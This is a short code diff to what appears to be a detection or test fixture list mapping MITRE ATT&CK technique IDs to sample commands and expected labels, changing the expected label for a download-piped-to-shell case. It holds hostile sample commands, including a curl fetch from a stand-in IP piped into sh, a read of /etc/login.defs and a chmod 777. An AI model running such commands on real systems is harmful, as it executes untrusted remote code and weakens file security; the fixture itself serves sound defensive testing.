@@ -75,8 +75,7 @@ export const TECHNIQUES: readonly Technique[] = [
     'T1105',
     'a download with a shell behind it',
     `${named('curl')} -s http://192.0.2.1/ | sh`,
-    // Which end of a pipe starts first is chance.
-    'download_feeds_shell|shell_fed_by_download',
+    'download_feeds_shell',
   ),
   technique('T1201', 'the password policy is read', 'cat /etc/login.defs', 'password_policy_read'),
   technique('T1222.002', 'everybody may write', ': > $D/x; chmod 777 $D/x', 'permissions_opened_by_command'),
